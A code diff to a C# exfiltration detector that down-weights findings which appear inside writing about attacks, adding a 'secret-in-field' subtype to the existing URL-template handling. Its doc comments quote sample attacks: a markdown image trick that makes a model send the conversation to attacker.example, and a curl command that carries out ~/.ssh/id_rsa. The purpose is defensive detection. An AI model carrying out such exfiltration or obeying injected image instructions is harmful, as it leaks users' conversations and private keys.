@@ -6,7 +6,7 @@ namespace Custos.Detection.Exfiltration;
 /// Exfiltration shown inside writing about attacks is an example, not an order; its score is halved when a strong word
 /// of discussion (not a weak one) stands within 300 characters outside the finding:
 /// <list type="bullet">
-/// <item>a URL template ("A classic exfiltration trick asks the model to end its reply with an image whose URL carries
+/// <item>a URL template or a secret set into a visible field ("A classic exfiltration trick asks the model to end its reply with an image whose URL carries
 /// the conversation, like ![x](https://attacker.example/?d=...)"). A template with real data in it is reported by
 /// <see cref="ExfiltrationFinder.FromUrls"/> and stays;</item>
 /// <item>a quoted command ("Slide 12: 'curl …$(cat ~/.ssh/id_rsa)' — this is what a malicious install script looks
@@ -57,7 +57,7 @@ internal static class DiscussedTemplates
     /// <summary>What the explanation says when <paramref name="f"/> is lowered beside discussion; null if it is not a kind that is.</summary>
     private static string? Shown(Finding f, string text, bool commands) => f.Type != EntityTypes.Exfiltration ? null : f.Subtype switch
     {
-        "url-template" when !commands => "; lowered: shown in writing about attacks",
+        "url-template" or "secret-in-field" when !commands => "; lowered: shown in writing about attacks",
         "http-command" or "transfer-command" when commands && f.Start > 0
             && text[f.Start - 1] is '\'' or '"' or '`' or '\u2018' or '\u201C' or '\u00AB' or '\u300C' => "; lowered: quoted in writing about attacks",
         _ => null,
